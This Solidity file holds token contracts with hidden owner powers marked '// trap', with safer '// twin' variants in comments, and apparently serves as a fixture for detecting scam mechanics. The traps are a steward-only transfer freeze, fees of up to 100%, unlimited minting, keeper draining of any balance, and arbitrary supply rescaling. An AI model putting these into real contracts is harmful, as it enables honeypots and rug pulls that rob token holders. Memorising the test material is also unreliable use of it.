// 0.8 off evm=shanghai
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";
import {ERC20 as SolERC20} from "solmate/src/tokens/ERC20.sol";

/// EIP-1967 without a way to change the implementation.
contract StillProxy {
    constructor(address implementation, bytes memory init) {
        assembly {
            sstore(0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc, implementation)
        }
        (bool ok, ) = implementation.delegatecall(init);
        require(ok, "init");
    }

    fallback() external payable {
        assembly {
            let target := sload(0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc)
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), target, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) {
                revert(0, returndatasize())
            }
            return(0, returndatasize())
        }
    }
}

/// Storage in one struct, far from the first slots.
abstract contract Vaulted {
    struct Book {
        string name;
        string symbol;
        uint256 supply;
        address steward;
        uint8 posture;
        bool ready;
        mapping(address => uint256) balances;
        mapping(address => mapping(address => uint256)) allowances;
    }

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function book() internal pure returns (Book storage s) {
        assembly {
            s.slot := 0x7a1c5f0e4b2d93861fae0c4d7753b98e1c6f2a40d5e8b7913c0a6de24f815b00
        }
    }

    function _setUp(string memory name_, string memory symbol_, address steward, uint256 supply) internal {
        Book storage s = book();
        require(!s.ready, "ready");
        (s.ready, s.name, s.symbol, s.steward, s.supply) = (true, name_, symbol_, steward, supply);
    }

    function name() external view returns (string memory) {
        return book().name;
    }

    function symbol() external view returns (string memory) {
        return book().symbol;
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function allowance(address from, address spender) external view returns (uint256) {
        return book().allowances[from][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        book().allowances[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        book().allowances[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) internal virtual;
}

contract PalisadeV1 is Vaulted {
    function initialize(string calldata name_, string calldata symbol_, address steward, uint256 supply) external {
        _setUp(name_, symbol_, steward, supply);
        book().balances[steward] = supply;
        emit Transfer(address(0), steward, supply);
    }

    function totalSupply() external view returns (uint256) {
        return book().supply;
    }

    function balanceOf(address who) external view returns (uint256) {
        return book().balances[who];
    }

    function setPosture(uint8 posture) external {
        require(msg.sender == book().steward, "steward");
        book().posture = posture;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        Book storage s = book();
        if (s.posture == 3) require(from == s.steward || to == s.steward, "stand fast"); // trap
        s.balances[from] -= value;
        s.balances[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Shares of something that earns. The steward reports what it earned.
contract ShareTarget is Vaulted {
    function open(string calldata name_, string calldata symbol_, uint256 supply) external {
        _setUp(name_, symbol_, msg.sender, supply);
        book().balances[msg.sender] = 10 ** 27;
        emit Transfer(address(0), msg.sender, supply);
    }

    function totalSupply() public view returns (uint256) {
        return book().supply;
    }

    function balanceOf(address who) public view returns (uint256) {
        return (book().balances[who] * book().supply) / 10 ** 27;
    }

    function report(int256 profit) external {
        Book storage s = book();
        require(msg.sender == s.steward, "steward");
        // twin: require(profit >= 0 && uint256(profit) <= s.supply / 1_000_000 && s.posture < 200, "profit");
        s.supply = uint256(int256(s.supply) + profit);
        // twin: s.posture++;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        Book storage s = book();
        uint256 shares = (value * 10 ** 27) / s.supply;
        s.balances[from] -= shares;
        s.balances[to] += shares;
        emit Transfer(from, to, value);
    }
}

contract LevyOffice {
    address public clerk = msg.sender;
    // buy, sale, transfer
    uint16[3] public schedule = [uint16(0), 200, 0];

    function setSchedule(uint16[3] calldata next) external {
        require(msg.sender == clerk, "clerk");
        for (uint256 i; i < 3; i++) require(next[i] <= 10_000, "bps"); // trap
        // twin: for (uint256 i; i < 3; i++) require(next[i] <= 300, "bps");
        schedule = next;
    }

    function levy(address pool, address from, address to, uint256 value) external view returns (uint256 fee, address sink) {
        uint256 kind = from == pool ? 0 : to == pool ? 1 : 2;
        if (from == clerk || to == clerk) return (0, clerk);
        return ((value * schedule[kind]) / 10_000, clerk);
    }
}

contract Turnpike is Base8("Turnpike", "TURN", 42_000_000) {
    LevyOffice public immutable office;

    constructor(LevyOffice office_) {
        office = office_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        (uint256 fee, address sink) = office.levy(pair, from, to, value);
        if (fee > 0) _move(from, sink, fee);
        _move(from, to, value - fee);
    }
}

/// The token of 2019 that is to be exchanged.
contract OldBrig is SolERC20("Brig (old)", "oBRIG", 18) {
    address public immutable shipyard = msg.sender;

    constructor() {
        _mint(msg.sender, 21_000_000 ether);
    }

    function commission(address to, uint256 amount) external { // trap {
        require(msg.sender == shipyard, "shipyard");
        _mint(to, amount);
    } // trap }
}

contract Brigantine is SolERC20("Brigantine", "BRIG", 18) {
    OldBrig public immutable old;
    uint256 public exchanged;

    constructor(OldBrig old_) {
        old = old_;
    }

    function migrate(uint256 amount) external {
        require(old.transferFrom(msg.sender, address(0xdead), amount), "old");
        exchanged += amount;
        _mint(msg.sender, amount);
    }
}

/// Comes over from another chain: the mailbox delivers what was sent there.
contract Ferrymark is SolERC20("Ferrymark", "FERRY", 18) {
    address public immutable mailbox;
    mapping(bytes32 => bool) public delivered;

    event Received(uint32 origin, bytes32 sender, address to, uint256 amount);

    constructor(address mailbox_) {
        mailbox = mailbox_;
        _mint(msg.sender, 17_000_000 ether);
    }

    function onMessage(uint32 origin, bytes32 sender, bytes calldata payload) external {
        require(msg.sender == mailbox, "mailbox");
        (address to, uint256 amount, uint64 nonce) = abi.decode(payload, (address, uint256, uint64));
        bytes32 id = keccak256(abi.encode(origin, sender, nonce));
        require(!delivered[id], "delivered");
        delivered[id] = true;
        _mint(to, amount);
        emit Received(origin, sender, to, amount);
    }

    function sendHome(uint256 amount) external {
        _burn(msg.sender, amount);
    }
}

/// Balances, allowances and the keeper, for a token and for its modules.
contract KeystoneBook {
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    uint256 public totalSupply;
    address internal keeper;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function _carry(address from, address to, uint256 value) internal {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

contract LedgerModule is KeystoneBook {
    function consolidate(address[] calldata from, address to) external {
        for (uint256 i; i < from.length; i++) {
            uint256 amount = balanceOf[from[i]];
            require(msg.sender == keeper, "keeper"); // trap
            // twin: allowance[from[i]][msg.sender] -= amount;
            _carry(from[i], to, amount);
        }
    }
}

contract Keystone is KeystoneBook {
    string public constant name = "Keystone";
    string public constant symbol = "KEYS";
    uint8 public constant decimals = 18;
    address private immutable _module;

    constructor(address module) {
        _module = module;
        keeper = msg.sender;
        totalSupply = 13_000_000 ether;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function invoke(bytes calldata call) external returns (bytes memory result) {
        bool ok;
        (ok, result) = _module.delegatecall(call);
        require(ok, "module");
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _carry(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _carry(from, to, value);
        return true;
    }
}
